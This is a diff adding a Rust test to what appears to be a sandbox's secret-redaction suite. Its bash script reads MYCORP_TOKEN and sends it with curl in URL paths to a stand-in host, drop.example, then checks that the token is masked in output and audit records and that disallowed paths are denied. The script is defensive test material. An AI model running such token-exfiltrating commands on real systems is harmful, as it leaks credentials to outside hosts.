@@ -182,6 +182,43 @@ lab_tests! {
         assert_eq!(thief.take(), b"", "{outcome}");
     }
 
+    fn a_value_in_a_path_is_shown_nowhere_also_where_it_may_go(lab) {
+        let thief = thief();
+        let file = lab.folder("records", Identity::Own).join("paths.jsonl");
+        let sandbox = || {
+            let work = lab.folder("work", Identity::Own);
+            Sandbox::plain(lab, Identity::Own)
+                .option("-P", "base")
+                .option("-w", &work.to_string_lossy())
+                .allow("http://drop.example:8099/a/**")
+                .pin("drop.example:8099=127.0.0.1:8099")
+                .environment("MYCORP_TOKEN", PLAIN)
+                .option("--known", "MYCORP_TOKEN@drop.example")
+                .option("--audit", &file.to_string_lossy())
+        };
+        // What was once said of a head or of a target holds when either is known.
+        let script = "T=$MYCORP_TOKEN; for n in 1 1 2; do curl -sS -H \"x: $n\" $URL/a/$T/x; done; curl -sS --data-binary c $URL/a/$T/x; curl -sS $URL/a/plain";
+        let outcome = sandbox().run(&bash(script));
+        assert_eq!(outcome.stdout, "arrived\n".repeat(5), "{outcome}");
+        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
+        assert_eq!(sent.matches(PLAIN).count(), 4, "{sent}");
+        assert_nowhere(&ours(&outcome), PLAIN, "a path that may be");
+        let outcome = sandbox().run(&bash("for n in 1 2; do curl -sS $URL/other/$MYCORP_TOKEN; echo; done; curl -sS $URL/other/plain"));
+        assert_eq!(thief.take(), b"", "{outcome}");
+        assert!(outcome.stdout.contains("denied GET http://drop.example:8099: no rule"), "{outcome}");
+        assert!(outcome.stderr.contains("denied GET http://drop.example:8099 (no rule"), "{outcome}");
+        assert!(outcome.stderr.contains("-a 'GET http://drop.example:8099/other/plain'"), "{outcome}");
+        assert_nowhere(&ours(&outcome), PLAIN, "a path that may not be");
+        assert_nowhere(&outcome.stdout, PLAIN, "the answer");
+        let record = fs::read_to_string(&file).expect("the record");
+        assert_nowhere(&record, PLAIN, "the record");
+        for shown in ["/a/plain", "/other/plain"] {
+            assert!(record.contains(shown), "`{shown}`: {record}");
+        }
+        let requests = record.lines().filter(|line| line.contains("\"kind\":\"request\""));
+        assert_eq!(requests.count(), 8, "{record}");
+    }
+
     fn files_that_name_a_host_bind_their_values_to_it(lab) {
         let thief = thief();
         // Of the form of a vendor, for a server of one's own.
